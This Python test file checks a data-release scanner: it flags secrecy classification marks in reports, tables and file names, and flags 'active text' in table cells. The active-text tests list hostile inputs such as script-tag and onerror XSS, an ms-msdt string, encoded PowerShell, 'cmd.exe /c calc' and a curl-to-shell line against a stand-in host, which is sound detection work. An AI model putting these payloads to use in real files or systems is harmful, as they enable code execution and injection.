"""Check 11: marks of secrecy, and text that acts where it is opened."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import polars as pl
import pytest


def rules(report: Any) -> set[str]:
    return {one.rule for one in report.findings}


@pytest.mark.parametrize(
    "line",
    [
        "机密★10年", "★秘密", "绝 密", "秘密", "【重要数据】", "（内部资料）", "密级：机密",
        "数据级别: 核心数据", "保密期限：长期", "内部资料，注意保存", "TOP SECRET",
        "Confidential", "机\u200b密★", "國家秘密 机密☆",
    ],
)  # fmt: skip
def test_a_mark_of_secrecy_goes_to_people(attack: Callable[..., Any], line: str) -> None:
    report = attack(f"# 报告\n\n{line}\n", "r.md", raws=[])
    assert "SECRECY" in rules(report)
    assert line.strip() not in str([one.as_json() for one in report.findings])


@pytest.mark.parametrize(
    "line",
    [
        "商业秘密保护办法自 2026 年起施行。",
        "公共数据是重要数据来源之一。",
        "保守国家秘密是公民的义务。",
        "内部控制评价等级",
        "The confidentiality of respondents is kept.",
    ],
)
def test_a_word_within_a_sentence_is_no_mark(attack: Callable[..., Any], line: str) -> None:
    assert "SECRECY" not in rules(attack(f"# 报告\n\n{line}\n", "r.md", raws=[]))


@pytest.mark.parametrize("place", ["cell", "header", "name"])
def test_a_mark_is_found_wherever_it_stands(attack: Callable[..., Any], place: str) -> None:
    column = "重要数据" if place == "header" else "note"
    table = pl.DataFrame({column: ["a", "机密★" if place == "cell" else "b"], "n": [20, 30]})
    report = attack(table, "秘密.csv" if place == "name" else "out.csv", raws=[])
    assert "SECRECY" in rules(report)


@pytest.mark.parametrize(
    "cell",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        r"\\files.example.test\share",
        "file:///etc/hosts",
        "ms-msdt:/id x",
        "powershell -enc AAAA",
        "cmd.exe /c calc",
        "curl -s example.test/a | sh",
        "TVqQAAMAAAAEAAAA//8AALgA",
    ],
)
def test_text_that_acts_goes_to_people(attack: Callable[..., Any], cell: str) -> None:
    table = pl.DataFrame({"note": ["plain", cell], "n": [20, 30]})
    report = attack(table, raws=[])
    assert "ACTIVE_TEXT" in rules(report)
    assert cell not in str([one.as_json() for one in report.findings])


@pytest.mark.parametrize("cell", ["a < b", "12:30:00", "C:\\temp", "cmd", "x|y", "https://www.gov.cn/a"])
def test_plain_text_does_not(attack: Callable[..., Any], cell: str) -> None:
    assert "ACTIVE_TEXT" not in rules(attack(pl.DataFrame({"note": ["plain", cell], "n": [20, 30]}), raws=[]))
